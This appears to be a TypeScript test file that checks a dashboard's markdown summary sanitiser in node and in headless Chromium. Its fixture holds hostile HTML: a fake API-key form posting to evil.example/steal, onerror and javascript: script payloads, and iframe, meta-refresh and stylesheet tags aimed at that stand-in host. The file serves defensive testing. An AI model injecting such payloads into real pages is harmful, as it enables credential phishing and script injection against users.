/**
 * The summary sanitiser (ui/src/sanitize.ts): its configuration in node, then the module
 * and a stored summary on the dashboard in Debian's chromium (skipped, saying so, without
 * it). DOMPurify's defaults kept <form>, <input>, <button>, <style> and external <img> in
 * a rendered summary: a summary (a model's or a caller's text) could draw a fake key
 * prompt, restyle the page or fetch another origin. (ui.test.ts drives the rest of the
 * dashboard, with one seeded server.)
 */
import { execFileSync } from 'node:child_process'
import type { AddressInfo } from 'node:net'
import { chromium, type Browser, type Page } from 'playwright-core'
import t from 'tap'
import type * as Tap from 'tap'
import { uiBuildDir } from '../../src/plugins/ui.ts'
import { markdownHtml, SAFE_HREF, SUMMARY_ALLOWED_ATTR, SUMMARY_ALLOWED_TAGS, SUMMARY_SANITIZE_CONFIG } from '../../ui/src/sanitize.ts'
import { buildTestApp } from '../helpers/build.ts'
import { CHROMIUM_SKIP as SKIP, chromiumPath as executablePath } from '../helpers/chromium.ts'

/** Markdown holding everything a summary must not render, and everything it needs. */
const HOSTILE_SUMMARY = [
  '## Session Summary (Compaction Round 1)',
  '',
  '<form action="https://evil.example/steal"><input name="key" placeholder="API key"><textarea>t</textarea><select><option>o</option></select><button type="submit">Save key</button></form>',
  '',
  '<style>body { display: none }</style>',
  '',
  '![pixel](https://evil.example/pixel.png) <img src="https://evil.example/x.png" onerror="alert(1)"> <img src="data:image/png;base64,iVBORw0KGgo=">',
  '',
  '<a href="javascript:alert(1)">js link</a> [data link](data:text/html,hi) [good link](https://example.com/docs) <a href="https://example.com/x" onclick="alert(1)" style="color:red" class="error">styled link</a>',
  '',
  '<svg><circle r="5"/></svg><iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object><link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example"><span style="color:red" class="error" data-x="1">span text</span><div aria-label="x">div text</div>',
  '',
  '### Pending Steps',
  '- [ ] run npm test',
  '- [x] read src/db.ts',
  '',
  '1. first',
  '2. second',
  '',
  '| file | fate |',
  '|:-----|-----:|',
  '| src/db.ts | edited |',
  '',
  '`code` **bold** _em_ ~~gone~~',
  '',
  '> quoted',
  '',
  '---',
  '',
  '```ts',
  'const x = 1',
  '```',
].join('\n')

const FORBIDDEN_TAGS = ['form', 'input', 'button', 'textarea', 'select', 'option', 'style', 'img', 'svg', 'iframe', 'object', 'embed', 'link', 'meta', 'script', 'span', 'div', 'math', 'template']

t.test('the summary sanitiser keeps only the tags a summary needs (its configuration, in node)', async (t) => {
  for (const tag of ['h1', 'h2', 'h3', 'p', 'ul', 'ol', 'li', 'pre', 'code', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'em', 'strong', 'del', 'a', 'blockquote', 'hr', 'br']) {
    t.ok(SUMMARY_ALLOWED_TAGS.includes(tag), `${tag} allowed`)
  }
  for (const tag of FORBIDDEN_TAGS) t.notOk(SUMMARY_ALLOWED_TAGS.includes(tag), `${tag} not allowed`)
  t.same([...SUMMARY_ALLOWED_ATTR].sort(), ['align', 'href', 'start', 'title'], 'no style, class, src, on*, data-* or aria-* attribute')
  t.same(SUMMARY_SANITIZE_CONFIG.ALLOWED_TAGS, SUMMARY_ALLOWED_TAGS, 'the configuration is the list (it replaces DOMPurify\'s defaults)')
  t.equal(SUMMARY_SANITIZE_CONFIG.ALLOW_DATA_ATTR, false)
  t.equal(SUMMARY_SANITIZE_CONFIG.ALLOW_ARIA_ATTR, false)
  for (const href of ['https://example.com', 'http://x.test/a', 'mailto:a@b.c', '#section']) t.match(href, SAFE_HREF, `${href} kept`)
  for (const href of ['javascript:alert(1)', 'data:text/html,hi', 'vbscript:x', '//evil.example/x', 'src/db.ts', 'file:///etc/passwd']) t.notMatch(href, SAFE_HREF, `${href} dropped`)
  // Task lists (how pending steps are written) need no <input>: the checkbox is a character.
  const html = markdownHtml('- [ ] run npm test\n- [x] read src/db.ts\n')
  t.notMatch(html, /<input/, 'no checkbox input')
  t.match(html, /☐ run npm test/)
  t.match(html, /☑ read src\/db.ts/)
})

t.test('the summary sanitiser in chromium: hostile markup is dropped, a summary\'s structure kept, in the module and on the dashboard', { skip: SKIP }, async (t) => {
  const { build } = await import('esbuild')
  const bundle = await build({ entryPoints: [new URL('../../ui/src/sanitize.ts', import.meta.url).pathname], bundle: true, format: 'iife', globalName: 'Sanitize', write: false, target: 'es2020', logLevel: 'silent' })
  const browser: Browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--disable-dev-shm-usage'] })
  t.teardown(() => browser.close())
  const page: Page = await browser.newPage()
  const outside: string[] = []
  page.on('request', (r) => {
    if (/evil\.example/.test(r.url())) outside.push(r.url())
  })

  /** Tag counts, links and text of the element matching `selector`. */
  const inspect = (selector: string) =>
    page.evaluate<{ tags: Record<string, number>; links: { href: string | null; rel: string | null; attrs: string[] }[]; attrs: string[]; text: string }>(`(() => {
      const root = document.querySelector(${JSON.stringify(selector)})
      const tags = {}
      for (const el of root.querySelectorAll('*')) tags[el.localName] = (tags[el.localName] ?? 0) + 1
      const attrs = [...new Set([...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)))].sort()
      const links = [...root.querySelectorAll('a')].map((a) => ({ href: a.getAttribute('href'), rel: a.getAttribute('rel'), attrs: [...a.attributes].map((x) => x.name).sort() }))
      return { tags, links, attrs, text: root.textContent }
    })()`)

  const check = async (t: Tap.Test, selector: string, label: string) => {
    const { tags, links, attrs, text } = await inspect(selector)
    for (const tag of FORBIDDEN_TAGS) t.notOk(tags[tag], `${label}: no <${tag}>`)
    for (const tag of ['h2', 'h3', 'ul', 'ol', 'li', 'table', 'th', 'td', 'code', 'pre', 'strong', 'em', 'del', 'blockquote', 'hr', 'a']) t.ok(tags[tag], `${label}: <${tag}> kept`)
    t.same(attrs.filter((a) => !['href', 'title', 'align', 'start', 'target', 'rel'].includes(a)), [], `${label}: no other attribute (style, class, on*, src, data-*, aria-*)`)
    t.same(links.map((l) => l.href), [null, null, 'https://example.com/docs', 'https://example.com/x'], `${label}: only http(s) hrefs survive`)
    t.ok(links.filter((l) => l.href).every((l) => l.rel === 'noopener noreferrer'), `${label}: links without opener or referrer`)
    t.match(text, /☐ run npm test[\s\S]*☑ read src\/db\.ts/, `${label}: the task list, as characters`)
    t.notMatch(text, /display: none/, `${label}: a style's text is not shown either`)
  }

  await t.test('the module, in a page', async (t) => {
    await page.setContent('<!doctype html><html><body><div id="out"></div></body></html>')
    await page.addScriptTag({ content: bundle.outputFiles[0]!.text })
    await page.evaluate(`document.getElementById('out').innerHTML = Sanitize.renderMarkdown(${JSON.stringify(HOSTILE_SUMMARY)})`)
    await check(t, '#out', 'module')
  })

  await t.test('a stored summary on the dashboard', async (t) => {
    if (!uiBuildDir()) execFileSync('npm', ['run', 'build:ui'], { cwd: new URL('../..', import.meta.url), stdio: 'inherit' })
    const { app } = await buildTestApp(t)
    t.equal((await app.inject({ method: 'PUT', url: '/sessions/ui-hostile', payload: {} })).statusCode, 201)
    const put = await app.inject({ method: 'PUT', url: '/sessions/ui-hostile/summary', payload: { content: HOSTILE_SUMMARY } })
    t.equal(put.statusCode, 200, 'stored as written')
    await app.listen({ host: '127.0.0.1', port: 0 })
    const base = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`
    await page.goto(`${base}/ui/#/s/ui-hostile`)
    await page.waitForSelector('[data-testid=current-summary] h2', { timeout: 20_000 })
    await check(t, '[data-testid=current-summary]', 'dashboard')
  })
  t.same(outside, [], 'no request to another origin')
})
